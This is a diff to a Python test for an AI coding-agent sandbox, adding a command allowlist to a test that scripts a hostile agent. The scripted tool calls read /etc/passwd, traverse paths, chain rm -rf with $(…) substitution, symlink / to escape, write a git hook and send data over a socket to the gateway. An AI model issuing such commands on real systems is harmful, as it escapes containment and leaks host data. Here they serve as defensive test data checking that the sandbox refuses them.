@@ -45,12 +45,13 @@ def test_fibonacci() -> None:
 """
 
 
-def _playbook(env: Env, *, fix_rounds: int = 2, timeout_s: int = 60) -> None:
+def _playbook(env: Env, *, fix_rounds: int = 2, timeout_s: int = 60, allowlist: str = "[]") -> None:
     env.playbook(
         "coder",
         f"""
 name: coder
 on_failure: fail
+allowlist: {allowlist}
 steps:
   - id: code
     agent: code
@@ -183,10 +184,11 @@ def test_a_hostile_coder_is_contained_and_reported(
         f"python3 -c \"import socket; s = socket.create_connection(('{gateway}', {port}),"
         " timeout=3); s.sendall(b'leak')\""
     )
-    _playbook(env, timeout_s=20)
+    _playbook(env, timeout_s=20, allowlist="[ln]")  # ln: only this playbook allows it
     api.script(
         tool_calls(("read_file", {"path": "/etc/passwd"})),
         tool_calls(("read_file", {"path": "../../etc/hostname"})),
+        tool_calls(("run", {"command": "ls && rm -rf calc; X=1 $(echo sh) -c id"})),
         tool_calls(("run", {"command": "ln -s / escape"})),
         tool_calls(("read_file", {"path": "escape/etc/passwd"})),
         tool_calls(("write_file", {"path": ".git/hooks/pre-commit", "content": "#!/bin/sh"})),
@@ -200,13 +202,21 @@ def test_a_hostile_coder_is_contained_and_reported(
     [step] = report.steps
     assert seen == []  # nothing reached the host from the sandbox
     refused = step.outputs["refused"]
-    assert [r["tool"] for r in refused] == ["read_file", "read_file", "read_file", "write_file"]
+    tools = ["read_file", "read_file", "run", "read_file", "write_file"]
+    assert [r["tool"] for r in refused] == tools, refused
     assert "outside the workspace" in refused[0]["reason"]
-    assert "leads outside" in refused[2]["reason"]
+    assert refused[2]["reason"].startswith(
+        "outside the command allowlist: command substitution $(…), `rm` (a person adds"
+    )
+    assert "leads outside" in refused[3]["reason"]
+    brief = api.requests("openai")[0].body["messages"][-1]["content"]
+    assert "only these commands" in brief and ", ln, " in brief and " rm," not in brief
     calls = [e.data for e in report.events or [] if e.type == "tool.call"]
     runs = [c for c in calls if c["tool"] == "run"]
-    assert runs[1]["exit_code"] != 0  # no route out
-    assert runs[2]["timed_out"] is True  # killed at the step's deadline, not 600 s later
+    assert runs[0]["refused"] and "exit_code" not in runs[0]  # refused before it ran
+    assert runs[1]["exit_code"] == 0  # ln, allowed by the playbook
+    assert runs[2]["exit_code"] != 0  # no route out
+    assert runs[3]["timed_out"] is True  # killed at the step's deadline, not 600 s later
     # The run is not lost: the step's time ran out, the tests still pass, it succeeded
     # and reported what it refused.
     assert step.outputs["ended_by"] == "time_limit"
